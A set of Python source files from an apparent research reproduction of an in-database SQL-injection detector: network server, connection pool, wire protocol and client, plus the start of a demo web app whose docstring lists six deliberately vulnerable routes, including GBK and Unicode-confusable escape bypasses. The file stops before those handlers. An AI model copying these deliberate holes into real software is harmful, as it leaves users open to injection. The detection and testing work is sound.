            "open": 0,          # currently open connections
            "active": 0,        # connections with a batch in the engine
            "rejected": 0,      # refused: capacity, handshake, charset
            "commands": 0,      # commands executed
            "batches": 0,       # executor hops (pipelining amortization)
            "flow_pauses": 0,   # reader blocked on a full inbox
            "stmt_evictions": 0,  # statement handles dropped by the LRU cap
        }

    # -- lifecycle ---------------------------------------------------------

    def start(self):
        """Bind and serve on a background event-loop thread; returns
        ``(host, port)`` once the listener is accepting."""
        if self._thread is not None:
            raise RuntimeError("server already started")
        self._pool = ThreadPoolExecutor(
            max_workers=self._executor_threads,
            thread_name_prefix="net-exec",
        )
        self._thread = threading.Thread(
            target=self._run_loop, name="net-server", daemon=True
        )
        self._thread.start()
        self._ready.wait()
        if self._startup_error is not None:
            error = self._startup_error
            self.stop()
            raise error
        self.database.net_stats = self.stats_dict
        return (self.host, self.port)

    def stop(self):
        """Stop accepting, close every connection, join the thread."""
        loop = self._loop
        if loop is not None and self._stop_event is not None:
            try:
                loop.call_soon_threadsafe(self._stop_event.set)
            except RuntimeError:
                pass  # loop already closed
        if self._thread is not None:
            self._thread.join(timeout=10.0)
            self._thread = None
        if self._pool is not None:
            self._pool.shutdown(wait=False)
            self._pool = None
        if getattr(self.database, "net_stats", None) == self.stats_dict:
            self.database.net_stats = None
        self._loop = None

    def __enter__(self):
        self.start()
        return self

    def __exit__(self, *exc_info):
        self.stop()

    def _run_loop(self):
        try:
            asyncio.run(self._serve())
        except Exception as exc:  # surface bind errors to start()
            self._startup_error = exc
            self._ready.set()

    async def _serve(self):
        self._loop = asyncio.get_running_loop()
        self._stop_event = asyncio.Event()
        try:
            server = await asyncio.start_server(
                self._handle_connection, self.host, self.port
            )
        except OSError as exc:
            self._startup_error = exc
            self._ready.set()
            return
        self.group = GroupCommitter(self.database, self._pool)
        self.port = server.sockets[0].getsockname()[1]
        self._ready.set()
        async with server:
            await self._stop_event.wait()
            # drain connection handlers inside the loop so shutdown is
            # orderly (no tasks left for asyncio.run teardown to kill)
            for task in list(self._conn_tasks):
                task.cancel()
            if self._conn_tasks:
                await asyncio.gather(*self._conn_tasks,
                                     return_exceptions=True)

    # -- counters ----------------------------------------------------------

    def register_pool(self, pool):
        """Client pools co-located with the server register here so the
        status display can show pooled connections next to open ones."""
        with self._stats_lock:
            if pool not in self._pools:
                self._pools.append(pool)

    def _bump(self, counter, amount=1):
        with self._stats_lock:
            self._stats[counter] += amount

    def stats_dict(self):
        """Connection counters (``Septic.status()`` shows these under
        ``"net"`` once the server is started)."""
        with self._stats_lock:
            stats = dict(self._stats)
            stats["pooled"] = sum(
                pool.idle_count for pool in self._pools
            )
        if self.group is not None:
            stats["group_commit"] = self.group.stats_dict()
        return stats

    # -- the per-connection machinery --------------------------------------

    async def _read_frame(self, reader):
        """One framed command off the socket, or ``None`` at EOF."""
        try:
            header = await reader.readexactly(protocol.HEADER.size)
        except asyncio.IncompleteReadError as exc:
            if not exc.partial:
                return None  # clean EOF between frames
            raise protocol.TornFrameError(
                "connection died mid-header (%d bytes)" % len(exc.partial)
            )
        length, crc = protocol.unpack_header(header)
        try:
            body = await reader.readexactly(length)
        except asyncio.IncompleteReadError as exc:
            raise protocol.TornFrameError(
                "connection died mid-frame (%d of %d body bytes)"
                % (len(exc.partial), length)
            )
        return protocol.decode_body(body, crc)

    def _write_frame(self, writer, opcode, payload):
        """Serialize and write one response frame."""
        self._write_blob(writer, protocol.encode_frame(opcode, payload))

    def _write_blob(self, writer, blob):
        """Write one pre-encoded frame.

        The ``net.write`` fault site models the process dying mid
        ``write()``: on an injected fault, *half* the frame goes out and
        the exception tears the connection down — exactly the torn
        response frame the crash test drives.  The client's CRC/length
        framing refuses the partial frame, so the torn bytes can never
        read as an acknowledgement.
        """
        if faults_mod.ACTIVE is not None:
            try:
                faults_mod.fire("net.write")
            except Exception:
                writer.write(blob[:max(1, len(blob) // 2)])
                raise
        writer.write(blob)

    async def _handle_connection(self, reader, writer):
        task = asyncio.current_task()
        if task is not None:
            self._conn_tasks.add(task)
        try:
            await self._serve_connection(reader, writer)
        finally:
            if task is not None:
                self._conn_tasks.discard(task)

    async def _serve_connection(self, reader, writer):
        try:
            if faults_mod.ACTIVE is not None:
                faults_mod.fire("net.accept")
        except Exception:
            self._bump("rejected")
            writer.close()
            return
        with self._stats_lock:
            if self._stats["open"] >= self.max_connections:
                at_capacity = True
            else:
                at_capacity = False
                self._stats["open"] += 1
        if at_capacity:
            self._bump("rejected")
            try:
                self._write_frame(writer, protocol.ERR, {
                    "errno": 1040, "message": "Too many connections",
                })
                await writer.drain()
            except Exception:
                pass
            writer.close()
            return
        worker = None
        try:
            conn = await self._handshake(reader, writer)
            if conn is None:
                return
            inbox = asyncio.Queue(self.inbox_limit)
            worker = asyncio.ensure_future(
                self._worker(conn, inbox, writer)
            )
            reader_task = asyncio.ensure_future(
                self._read_commands(reader, inbox)
            )
            # watch both: a worker that dies while the reader is parked
            # on a full inbox must not leave the reader parked forever
            done, _pending = await asyncio.wait(
                {reader_task, worker},
                return_when=asyncio.FIRST_COMPLETED,
            )
            if worker in done:
                reader_task.cancel()
                try:
                    await reader_task
                except (asyncio.CancelledError, Exception):
                    pass
            else:
                reader_task.result()  # surface reader errors
            await worker
            worker = None
        except (protocol.NetProtocolError, ConnectionError, OSError,
                faults_mod.InjectedFault):
            pass  # the connection is gone; nothing to tell the peer
        except asyncio.CancelledError:
            pass  # server shutdown: fall through to the cleanup below
        finally:
            if worker is not None:
                worker.cancel()
                try:
                    await worker
                except (asyncio.CancelledError, Exception):
                    pass
            self._bump("open", -1)
            try:
                writer.close()
            except Exception:
                pass

    async def _handshake(self, reader, writer):
        """Charset negotiation; returns the engine-side
        :class:`Connection` or ``None`` after sending an ERR."""
        frame = await self._read_frame(reader)
        if frame is None:
            self._bump("rejected")
            return None
        opcode, payload = frame
        if opcode != protocol.HANDSHAKE:
            self._bump("rejected")
            self._write_frame(writer, protocol.ERR, {
                "errno": 1043,
                "message": "Bad handshake (expected HANDSHAKE, got %s)"
                           % protocol.OPCODE_NAMES.get(opcode, opcode),
            })
            await writer.drain()
            return None
        charset = payload.get("charset") or self.database.charset
        if charset not in charset_mod.SUPPORTED_CHARSETS:
            self._bump("rejected")
            self._write_frame(writer, protocol.ERR, {
                "errno": 1115,
                "message": "Unknown character set: '%s'" % charset,
            })
            await writer.drain()
            return None
        conn = Connection(
            self.database, charset=charset,
            multi_statements=bool(
                payload.get("multi", self.multi_statements)
            ),
            max_statements=self.max_statements,
        )
        with self._stats_lock:
            self._stats["accepted"] += 1
            self._connection_ids += 1
            connection_id = self._connection_ids
        self._write_frame(writer, protocol.HANDSHAKE_OK, {
            "server_version": self.database.version,
            "connection_id": connection_id,
            "charset": charset,
            "inbox_limit": self.inbox_limit,
        })
        await writer.drain()
        return conn

    async def _read_commands(self, reader, inbox):
        """The reader coroutine body: frame commands into the inbox
        until EOF/COM_QUIT.  ``put()`` on the bounded inbox is the
        backpressure point — when the worker is behind, the reader
        parks here and the socket stops being read."""
        while True:
            frame = await self._read_frame(reader)
            if faults_mod.ACTIVE is not None and frame is not None:
                faults_mod.fire("net.read")
            if frame is None or frame[0] == protocol.COM_QUIT:
                await inbox.put(None)
                return
            if inbox.full():
                self._bump("flow_pauses")
            await inbox.put(frame)

    async def _worker(self, conn, inbox, writer):
        """The per-connection executor: strict arrival order, batched
        engine hops, durability before acknowledgement."""
        loop = asyncio.get_running_loop()
        while True:
            command = await inbox.get()
            if command is None:
                return
            batch = [command]
            closing = False
            while len(batch) < self.batch_limit:
                try:
                    nxt = inbox.get_nowait()
                except asyncio.QueueEmpty:
                    break
                if nxt is None:
                    closing = True
                    break
                batch.append(nxt)
            self._bump("active")
            try:
                frames, need_lsn = await loop.run_in_executor(
                    self._pool, self._run_batch, conn, batch
                )
            finally:
                self._bump("active", -1)
            if need_lsn is not None and self.group is not None:
                # group commit: the batch moved the commit frontier, so
                # its acknowledgements wait here for a (shared) fsync
                await self.group.sync_to(need_lsn)
            for blob in frames:
                self._write_blob(writer, blob)
            await writer.drain()
            if closing:
                return

    # -- command dispatch (executor-thread side, synchronous) --------------

    def _run_batch(self, conn, commands):
        """Run *commands* in order against the engine; returns
        ``(encoded_frames, need_lsn)`` where *need_lsn* is the WAL
        frontier the responses must not precede (``None`` for read-only
        batches or WAL-less databases).  Responses are serialized here,
        on the executor thread, so the event loop only ships bytes."""
        database = self.database
        commits_before, _ = database.wal_commit_frontier()
        frames = [protocol.encode_frame(*self._dispatch(conn, opcode,
                                                        payload))
                  for opcode, payload in commands]
        self._bump("commands", len(commands))
        self._bump("batches")
        commits_after, frontier = database.wal_commit_frontier()
        need_lsn = frontier if commits_after > commits_before else None
        return frames, need_lsn

    def _dispatch(self, conn, opcode, payload):
        seq = payload.get("seq")
        if opcode == protocol.COM_PING:
            return (protocol.PONG, {"seq": seq})
        if opcode == protocol.COM_QUERY:
            outcome = conn.query(payload.get("sql", ""))
            return self._outcome_frame(conn, outcome, seq)
        if opcode == protocol.COM_STMT_PREPARE:
            evictions_before = conn.statement_evictions
            try:
                stmt_id, param_count = conn.prepare_statement(
                    payload.get("sql", "")
                )
            except SQLError as exc:
                return self._error_frame(exc, seq)
            evicted = conn.statement_evictions - evictions_before
            if evicted:
                self._bump("stmt_evictions", evicted)
            return (protocol.STMT_PREPARE_OK, {
                "stmt_id": stmt_id, "params": param_count, "seq": seq,
            })
        if opcode == protocol.COM_STMT_EXECUTE:
            outcome = conn.execute_statement(
                payload.get("stmt_id"), tuple(payload.get("params", ()))
            )
            return self._outcome_frame(conn, outcome, seq)
        if opcode == protocol.COM_STMT_CLOSE:
            known = conn.close_statement(payload.get("stmt_id"))
            return (protocol.OK, {"affected": 0, "known": known,
                                  "seq": seq})
        return (protocol.ERR, {
            "errno": 1047,
            "message": "Unknown command (opcode %r)" % opcode,
            "seq": seq,
        })

    def _outcome_frame(self, conn, outcome, seq):
        if outcome.error is not None:
            return self._error_frame(outcome.error, seq)
        if outcome.result_set is not None:
            return (protocol.RESULTSET, {
                "columns": list(outcome.result_set.columns),
                "rows": [list(row) for row in outcome.result_set.rows],
                "seq": seq,
            })
        return (protocol.OK, {
            "affected": outcome.affected_rows,
            "last_insert_id": conn.last_insert_id,
            "seq": seq,
        })

    def _error_frame(self, error, seq):
        return (protocol.ERR, {
            "errno": getattr(error, "errno", 2013),
            "message": str(getattr(error, "message", None) or error),
            "kind": type(error).__name__,
            "blocked": isinstance(error, QueryBlocked),
            "seq": seq,
        })
