"""Bounded client-side connection pool with health-checked checkout.

The client half of the front end's amortization story: a web tier
checking out a pooled connection skips the TCP connect + handshake
round trip, and — because server-side prepared statements live per
connection — inherits the previous user's warm statement handles, so a
hot query goes straight to the server's per-statement plan cache.

``checkout()`` health-checks idle connections with COM_PING before
handing them out (a dead one is discarded and replaced), blocks when
every slot is busy (bounded, like the server's inbox), and raises
:class:`PoolExhaustedError` when the wait exceeds *checkout_timeout*.
"""

import threading

from repro.core.resilience import make_lock
from repro.net.client import NetClient


class PoolExhaustedError(Exception):
    """Every pooled connection stayed busy for the whole timeout."""


class ConnectionPool(object):
    """A fixed-size pool of :class:`NetClient` connections."""

    def __init__(self, host, port, size=8, charset="utf8",
                 checkout_timeout=30.0, server=None,
                 client_factory=NetClient):
        self.host = host
        self.port = port
        self.size = max(1, size)
        self.charset = charset
        self.checkout_timeout = checkout_timeout
        self._client_factory = client_factory
        self._lock = make_lock()
        self._slots_free = threading.Condition(self._lock)
        self._idle = []
        self._total = 0
        #: counters (the server surfaces ``idle_count`` as ``pooled``)
        self.checkouts = 0
        self.reuses = 0
        self.created = 0
        self.health_failures = 0
        if server is not None:
            server.register_pool(self)

    @property
    def idle_count(self):
        with self._lock:
            return len(self._idle)

    def checkout(self):
        """A healthy connection: an idle one (pinged first), a fresh one
        if under capacity, else wait for a release."""
        with self._slots_free:
            while True:
                while self._idle:
                    client = self._idle.pop()
                    self.checkouts += 1
                    if client.ping():
                        self.reuses += 1
                        return client
                    # a dead idle connection: drop it and its slot
                    self.health_failures += 1
                    self._total -= 1
                    client.close()
                if self._total < self.size:
                    self._total += 1
                    self.checkouts += 1
                    break  # create outside the lock
                if not self._slots_free.wait(timeout=self.checkout_timeout):
                    raise PoolExhaustedError(
                        "no pooled connection became free within %.1fs"
                        % self.checkout_timeout
                    )
                # a slot freed: loop and re-scan the idle list
        try:
            client = self._client_factory(
                self.host, self.port, charset=self.charset
            )
        except Exception:
            with self._slots_free:
                self._total -= 1
                self._slots_free.notify()
            raise
        self.created += 1
        return client

    def release(self, client):
        """Return a connection to the pool (a closed/dead one frees its
        slot instead of being parked)."""
        with self._slots_free:
            if getattr(client, "_closed", False):
                self._total -= 1
            else:
                self._idle.append(client)
            self._slots_free.notify()

    def connection(self):
        """Context manager: ``with pool.connection() as client: ...``"""
        return _PooledConnection(self)

    def close(self):
        """Close every idle connection (busy ones close on release)."""
        with self._slots_free:
            idle, self._idle = self._idle, []
            self._total -= len(idle)
            self._slots_free.notify_all()
        for client in idle:
            client.close()

    def stats_dict(self):
        with self._lock:
            return {
                "size": self.size,
                "idle": len(self._idle),
                "in_use": self._total - len(self._idle),
                "checkouts": self.checkouts,
                "reuses": self.reuses,
                "created": self.created,
                "health_failures": self.health_failures,
            }


class _PooledConnection(object):
    __slots__ = ("_pool", "_client")

    def __init__(self, pool):
        self._pool = pool
        self._client = None

    def __enter__(self):
        self._client = self._pool.checkout()
        return self._client

    def __exit__(self, *exc_info):
        if self._client is not None:
            self._pool.release(self._client)
            self._client = None
