"""Wire framing: the length-prefixed binary protocol both ends speak.

A frame is::

    frame := u32 body_length | u32 crc32(body) | body
    body  := u8 opcode | payload (UTF-8 JSON)

— the same little-endian length+CRC discipline as the WAL's record
framing, so a torn frame (a connection killed mid-write) is detected
the same way a torn log tail is: the length prefix doesn't frame, or
the CRC fails.  A client never treats a torn response as an
acknowledgement; it surfaces :class:`TornFrameError` and the caller
knows only that the command's fate is undecided (exactly a crashed
server's contract).

Parameters for ``COM_STMT_EXECUTE`` travel as typed JSON values inside
the payload — the "binary protocol" of the paper's prepared-statement
contrast.  They are bound into the statement *after* the server's
charset decode step, so connection-charset quirks (GBK escape-eating,
U+02BC folding) never touch them; only ``COM_QUERY`` text goes through
:func:`repro.sqldb.charset.decode_query`.
"""

import json
import struct
import zlib

from repro import faults as faults_mod

#: frame header: little-endian u32 body length + u32 CRC32(body)
HEADER = struct.Struct("<II")

#: sanity bound on one frame body (larger is framing damage)
MAX_FRAME_BYTES = 16 * 1024 * 1024

# -- opcodes: client -> server ------------------------------------------------

HANDSHAKE = 0x01
COM_QUERY = 0x03
COM_STMT_PREPARE = 0x04
COM_STMT_EXECUTE = 0x05
COM_STMT_CLOSE = 0x06
COM_PING = 0x07
COM_QUIT = 0x08

# -- opcodes: server -> client ------------------------------------------------

HANDSHAKE_OK = 0x02
OK = 0x10
ERR = 0x11
RESULTSET = 0x12
STMT_PREPARE_OK = 0x13
PONG = 0x14

#: human-readable opcode names (error messages and tests)
OPCODE_NAMES = {
    HANDSHAKE: "HANDSHAKE",
    HANDSHAKE_OK: "HANDSHAKE_OK",
    COM_QUERY: "COM_QUERY",
    COM_STMT_PREPARE: "COM_STMT_PREPARE",
    COM_STMT_EXECUTE: "COM_STMT_EXECUTE",
    COM_STMT_CLOSE: "COM_STMT_CLOSE",
    COM_PING: "COM_PING",
    COM_QUIT: "COM_QUIT",
    OK: "OK",
    ERR: "ERR",
    RESULTSET: "RESULTSET",
    STMT_PREPARE_OK: "STMT_PREPARE_OK",
    PONG: "PONG",
}


class NetProtocolError(Exception):
    """A malformed or unexpected frame."""


class TornFrameError(NetProtocolError):
    """The peer died mid-frame: a partial header/body, or a CRC that
    doesn't cover what arrived.  Whatever the frame would have said —
    including an acknowledgement — must be treated as never said."""


def encode_frame(opcode, payload):
    """Serialize one frame to bytes.

    The ``net.frame`` fault site fires here (both directions encode
    through this function), modelling serialization blowing up mid
    conversation."""
    if faults_mod.ACTIVE is not None:
        faults_mod.fire("net.frame")
    body = bytes([opcode]) + json.dumps(
        payload, separators=(",", ":"), ensure_ascii=False
    ).encode("utf-8")
    return HEADER.pack(len(body), zlib.crc32(body) & 0xFFFFFFFF) + body


def unpack_header(header_bytes):
    """``(body_length, crc)`` from the 8 header bytes."""
    if len(header_bytes) != HEADER.size:
        raise TornFrameError(
            "frame header torn: got %d of %d bytes"
            % (len(header_bytes), HEADER.size)
        )
    length, crc = HEADER.unpack(header_bytes)
    if length > MAX_FRAME_BYTES:
        raise NetProtocolError(
            "frame length %d exceeds the %d-byte bound (framing damage)"
            % (length, MAX_FRAME_BYTES)
        )
    return length, crc


def decode_body(body, crc):
    """``(opcode, payload)`` from a frame body, verifying the CRC."""
    if (zlib.crc32(body) & 0xFFFFFFFF) != crc:
        raise TornFrameError(
            "frame body fails its checksum (torn or corrupt frame)"
        )
    if not body:
        raise NetProtocolError("empty frame body")
    opcode = body[0]
    try:
        payload = json.loads(body[1:].decode("utf-8")) if len(body) > 1 \
            else {}
    except (ValueError, UnicodeDecodeError) as exc:
        raise NetProtocolError("frame payload is not valid JSON: %s" % exc)
    if not isinstance(payload, dict):
        raise NetProtocolError("frame payload must be a JSON object")
    return opcode, payload
