"""Synchronous socket client for the wire protocol.

Mirrors the in-process :class:`repro.sqldb.connection.Connection`
surface (``query`` → outcome with ``ok``/``rows``/``error``) and adds
the two things only a real socket can express:

* **pipelining** — ``send_query()``/``send_execute()`` enqueue a
  command without waiting; ``drain()`` then reads the responses, which
  the server returns strictly in command order (each response echoes
  the command's ``seq``, and the client verifies it).  One round trip
  amortizes over the whole window;
* **server-side prepared statements** — ``prepare()`` returns a
  statement handle whose id lives on the server; ``prepare_cached()``
  reuses handles per SQL text, so a pooled connection's hot statements
  skip the parse/plan path entirely (the server routes executions
  through the pipeline cache keyed by statement id).

A torn response frame (server killed mid-write) surfaces as
:class:`~repro.net.protocol.TornFrameError` — never as an OK — so an
unacknowledged write stays unacknowledged.
"""

import socket

from repro.net import protocol
from repro.sqldb.errors import QueryBlocked, SQLError


class RemoteError(SQLError):
    """An ERR frame, rehydrated client-side.

    Carries the server's errno/message plus the server-side exception
    class name under ``kind`` (so tests can tell a SEPTIC block from a
    parse error without string-matching)."""

    def __init__(self, message, errno=None, kind=None, blocked=False):
        SQLError.__init__(self, message, errno=errno)
        self.kind = kind
        self.blocked = blocked


class NetOutcome(object):
    """What one pipelined command produced (client-side QueryOutcome)."""

    __slots__ = ("columns", "rows", "affected_rows", "last_insert_id",
                 "error", "seq")

    def __init__(self, columns=None, rows=None, affected_rows=0,
                 last_insert_id=None, error=None, seq=None):
        self.columns = columns or []
        self.rows = [] if rows is None else rows
        self.affected_rows = affected_rows
        self.last_insert_id = last_insert_id
        self.error = error
        self.seq = seq

    @property
    def ok(self):
        return self.error is None

    def scalar(self):
        if not self.rows:
            return None
        return self.rows[0][0]

    def __repr__(self):
        if self.error is not None:
            return "NetOutcome(error=%r)" % str(self.error)
        if self.columns:
            return "NetOutcome(%d rows)" % len(self.rows)
        return "NetOutcome(affected=%d)" % self.affected_rows


class NetPreparedHandle(object):
    """A server-side statement id plus its parameter count."""

    __slots__ = ("statement_id", "param_count", "sql")

    def __init__(self, statement_id, param_count, sql):
        self.statement_id = statement_id
        self.param_count = param_count
        self.sql = sql

    def __repr__(self):
        return "NetPreparedHandle(%d, %d params)" % (
            self.statement_id, self.param_count
        )


class NetClient(object):
    """One TCP connection to a :class:`repro.net.server.NetServer`."""

    def __init__(self, host, port, charset="utf8", multi_statements=False,
                 timeout=30.0):
        self.host = host
        self.port = port
        self.charset = charset
        self._sock = socket.create_connection((host, port),
                                              timeout=timeout)
        self._sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self._seq = 0
        #: commands sent whose responses have not been read yet
        self._pending = 0
        #: encoded frames awaiting one coalesced ``sendall`` — a
        #: pipelined window ships as a single syscall (see :meth:`flush`)
        self._outbuf = bytearray()
        #: receive buffer: one large ``recv`` serves many small frames,
        #: so draining a window costs ~one syscall, not two per frame
        self._inbuf = bytearray()
        self._inpos = 0
        self._closed = False
        #: sql text -> NetPreparedHandle (statement-id reuse)
        self._handle_cache = {}
        self._send(protocol.HANDSHAKE, {
            "charset": charset, "multi": multi_statements,
            "client": "repro-net",
        })
        opcode, payload = self._read_frame()
        if opcode == protocol.ERR:
            self.close()
            raise RemoteError(payload.get("message", "handshake refused"),
                              errno=payload.get("errno"),
                              kind=payload.get("kind"))
        if opcode != protocol.HANDSHAKE_OK:
            self.close()
            raise protocol.NetProtocolError(
                "expected HANDSHAKE_OK, got %s"
                % protocol.OPCODE_NAMES.get(opcode, opcode)
            )
        self.connection_id = payload.get("connection_id")
        self.server_version = payload.get("server_version")

    # -- framing -----------------------------------------------------------

    def _send(self, opcode, payload):
        """Buffer one frame; it leaves on the next :meth:`flush` (every
        response read flushes first, so a lone command still goes out
        immediately — buffering only coalesces pipelined windows)."""
        if self._closed:
            raise protocol.NetProtocolError("client is closed")
        self._outbuf += protocol.encode_frame(opcode, payload)

    def flush(self):
        """Ship every buffered frame in one ``sendall``."""
        if self._outbuf:
            blob = bytes(self._outbuf)
            del self._outbuf[:]
            self._sock.sendall(blob)

    def _recv_exact(self, count):
        buffer = self._inbuf
        while len(buffer) - self._inpos < count:
            chunk = self._sock.recv(65536)
            if not chunk:
                raise protocol.TornFrameError(
                    "connection closed after %d of %d expected bytes"
                    % (len(buffer) - self._inpos, count)
                )
            buffer += chunk
        start = self._inpos
        self._inpos += count
        data = bytes(buffer[start:self._inpos])
        if self._inpos >= len(buffer):
            del buffer[:]
            self._inpos = 0
        return data

    def _read_frame(self):
        self.flush()  # never wait on a response still sitting here
        header = self._recv_exact(protocol.HEADER.size)
        length, crc = protocol.unpack_header(header)
        body = self._recv_exact(length)
        return protocol.decode_body(body, crc)

    # -- pipelined sends ---------------------------------------------------

    def _next_seq(self):
        self._seq += 1
        return self._seq

    def send_query(self, sql):
        """Enqueue a COM_QUERY without waiting; returns its seq."""
        seq = self._next_seq()
        self._send(protocol.COM_QUERY, {"sql": sql, "seq": seq})
        self._pending += 1
        return seq

    def send_execute(self, handle, params=()):
        """Enqueue a COM_STMT_EXECUTE without waiting; returns its seq."""
        seq = self._next_seq()
        self._send(protocol.COM_STMT_EXECUTE, {
            "stmt_id": handle.statement_id,
            "params": list(params),
            "seq": seq,
        })
        self._pending += 1
        return seq

    def send_ping(self):
        seq = self._next_seq()
        self._send(protocol.COM_PING, {"seq": seq})
        self._pending += 1
        return seq

    def drain(self, count=None):
        """Read *count* pending responses (default: all), in command
        order.  Returns a list of :class:`NetOutcome`."""
        if count is None:
            count = self._pending
        outcomes = []
        for _ in range(count):
            opcode, payload = self._read_frame()
            self._pending -= 1
            outcomes.append(self._to_outcome(opcode, payload))
        return outcomes

    @property
    def pending(self):
        return self._pending

    def _to_outcome(self, opcode, payload):
        seq = payload.get("seq")
        if opcode == protocol.ERR:
            return NetOutcome(error=RemoteError(
                payload.get("message", "unknown error"),
                errno=payload.get("errno"),
                kind=payload.get("kind"),
                blocked=payload.get("blocked", False),
            ), seq=seq)
        if opcode == protocol.RESULTSET:
            return NetOutcome(
                columns=payload.get("columns", []),
                rows=[tuple(row) for row in payload.get("rows", [])],
                seq=seq,
            )
        if opcode == protocol.OK:
            return NetOutcome(
                affected_rows=payload.get("affected", 0),
                last_insert_id=payload.get("last_insert_id"),
                seq=seq,
            )
        if opcode == protocol.PONG:
            return NetOutcome(seq=seq)
        raise protocol.NetProtocolError(
            "unexpected response opcode %s"
            % protocol.OPCODE_NAMES.get(opcode, opcode)
        )

    # -- one-round-trip conveniences ---------------------------------------

    def query(self, sql):
        """Send one query and wait for its response (the unpipelined
        baseline the throughput bench measures against)."""
        self.send_query(sql)
        return self.drain(1)[0]

    def query_or_raise(self, sql):
        outcome = self.query(sql)
        if not outcome.ok:
            raise outcome.error
        return outcome

    def prepare(self, sql):
        """COM_STMT_PREPARE; returns a :class:`NetPreparedHandle`."""
        seq = self._next_seq()
        self._send(protocol.COM_STMT_PREPARE, {"sql": sql, "seq": seq})
        opcode, payload = self._read_frame()
        if opcode == protocol.ERR:
            raise RemoteError(payload.get("message", "prepare failed"),
                              errno=payload.get("errno"),
                              kind=payload.get("kind"))
        if opcode != protocol.STMT_PREPARE_OK:
            raise protocol.NetProtocolError(
                "expected STMT_PREPARE_OK, got %s"
                % protocol.OPCODE_NAMES.get(opcode, opcode)
            )
        return NetPreparedHandle(payload["stmt_id"],
                                 payload.get("params", 0), sql)

    def prepare_cached(self, sql):
        """Per-connection handle reuse: the first call prepares on the
        server, later calls return the same handle — a pooled
        connection keeps its server-side statements (and so the
        server's per-statement plan cache) warm across checkouts."""
        handle = self._handle_cache.get(sql)
        if handle is None:
            handle = self.prepare(sql)
            self._handle_cache[sql] = handle
        return handle

    def execute(self, handle, *params):
        """Execute a prepared handle and wait for its response."""
        if len(params) == 1 and isinstance(params[0], (list, tuple)):
            params = tuple(params[0])
        self.send_execute(handle, params)
        return self.drain(1)[0]

    def close_statement(self, handle):
        seq = self._next_seq()
        self._send(protocol.COM_STMT_CLOSE, {
            "stmt_id": handle.statement_id, "seq": seq,
        })
        self._handle_cache.pop(handle.sql, None)
        opcode, _payload = self._read_frame()
        return opcode == protocol.OK

    def ping(self):
        """Health check; ``False`` means the connection is dead."""
        try:
            self.send_ping()
            outcome = self.drain(1)[0]
            return outcome.ok
        except (protocol.NetProtocolError, OSError):
            return False

    def close(self):
        if self._closed:
            return
        self._closed = True
        try:
            self.flush()
            self._sock.sendall(
                protocol.encode_frame(protocol.COM_QUIT, {})
            )
        except Exception:
            pass  # goodbye is best-effort (peer gone, fault armed, ...)
        try:
            self._sock.close()
        except OSError:
            pass

    def __enter__(self):
        return self

    def __exit__(self, *exc_info):
        self.close()


__all__ = ["NetClient", "NetOutcome", "NetPreparedHandle", "RemoteError",
           "QueryBlocked"]
