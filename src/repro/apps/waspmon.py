"""WaspMon — the demonstration's web application (paper §III).

An energy-consumption monitoring application: users register devices,
devices report readings, owners browse histories and leave notes.  The
(fictional) developer was *careful*: every entry point is processed with
PHP sanitization functions before reaching a query.  The application is
nevertheless vulnerable through semantic-mismatch channels, one handler
per channel:

========  =======================  ==========================================
vuln id   route                    channel
========  =======================  ==========================================
V1        GET /device/history2      second-order: stored device name re-used
                                    unescaped in a later query
V2        GET /device               numeric context: escaped-but-unquoted PIN
V3        GET /history              unicode confusable (U+02BC) beats
                                    ``mysql_real_escape_string``
V4        POST /feedback            GBK connection eats ``addslashes``'s
                                    backslash
V5        POST /reading             stored XSS in the comment field
V6        GET /search               ORDER BY injection (identifier context)
========  =======================  ==========================================

All other handlers are genuinely safe — needed so the demo can show
SEPTIC does not break correct behaviour (no false positives).
"""

from repro.web.app import FieldSpec, PhpRuntime, WebApplication
from repro.web.http import Response
from repro.web.sanitize import (
    htmlspecialchars,
    addslashes,
    floatval,
    intval,
    mysql_real_escape_string,
)


class WaspMon(WebApplication):
    """The energy monitoring application."""

    name = "waspmon"

    def register(self):
        self.route("POST", "/login", self.page_login)
        self.route("GET", "/", self.page_dashboard)
        self.route("GET", "/device", self.page_device_lookup)
        self.route("GET", "/history", self.page_history)
        self.route("GET", "/device/history2", self.page_history_by_name)
        self.route("POST", "/device/new", self.page_register_device)
        self.route("POST", "/reading", self.page_add_reading)
        self.route("GET", "/search", self.page_search)
        self.route("POST", "/feedback", self.page_feedback)
        self.route("POST", "/device/notes", self.page_update_notes)
        self.route("GET", "/device/disconnect", self.page_disconnect)
        self.route("GET", "/feedback/list", self.page_feedback_list)

        self.form("/login", "POST", [
            FieldSpec("username", sample="alice"),
            FieldSpec("password", sample="alicepw"),
        ])
        self.form("/device", "GET", [
            FieldSpec("serial", sample="WM-100-A"),
            FieldSpec("pin", "int", sample="1234"),
        ])
        self.form("/history", "GET", [
            FieldSpec("serial", sample="WM-100-A"),
        ])
        self.form("/device/history2", "GET", [
            FieldSpec("device_id", "int", sample="1"),
        ])
        self.form("/device/new", "POST", [
            FieldSpec("serial", sample="WM-900-Z"),
            FieldSpec("pin", "int", sample="4321"),
            FieldSpec("name", sample="garage heater"),
            FieldSpec("location", sample="garage"),
        ])
        self.form("/reading", "POST", [
            FieldSpec("serial", sample="WM-100-A"),
            FieldSpec("watts", "int", sample="220"),
            FieldSpec("comment", sample="normal operation"),
        ])
        self.form("/search", "GET", [
            FieldSpec("min_watts", "int", sample="0"),
            FieldSpec("max_watts", "int", sample="500"),
            FieldSpec("sort", sample="taken_at"),
        ])
        self.form("/feedback", "POST", [
            FieldSpec("author", sample="bob"),
            FieldSpec("message", sample="nice dashboard"),
        ])
        self.form("/device/notes", "POST", [
            FieldSpec("serial", sample="WM-100-A"),
            FieldSpec("pin", "int", sample="1234"),
            FieldSpec("notes", sample="checked wiring"),
        ])
        self.form("/device/disconnect", "GET", [
            FieldSpec("device_id", "int", sample="1"),
        ])

    def setup_schema(self):
        self.admin_seed(
            """
            CREATE TABLE users (
                id INT PRIMARY KEY AUTO_INCREMENT,
                username VARCHAR(40) NOT NULL UNIQUE,
                password VARCHAR(40) NOT NULL,
                fullname VARCHAR(80),
                role VARCHAR(10) DEFAULT 'user'
            );
            CREATE TABLE devices (
                id INT PRIMARY KEY AUTO_INCREMENT,
                serial VARCHAR(20) NOT NULL,
                pin INT NOT NULL,
                owner_id INT,
                name VARCHAR(60),
                location VARCHAR(60),
                notes TEXT,
                connected INT DEFAULT 1
            );
            CREATE TABLE readings (
                id INT PRIMARY KEY AUTO_INCREMENT,
                device_id INT NOT NULL,
                watts FLOAT,
                taken_at DATETIME,
                comment TEXT
            );
            CREATE TABLE feedback (
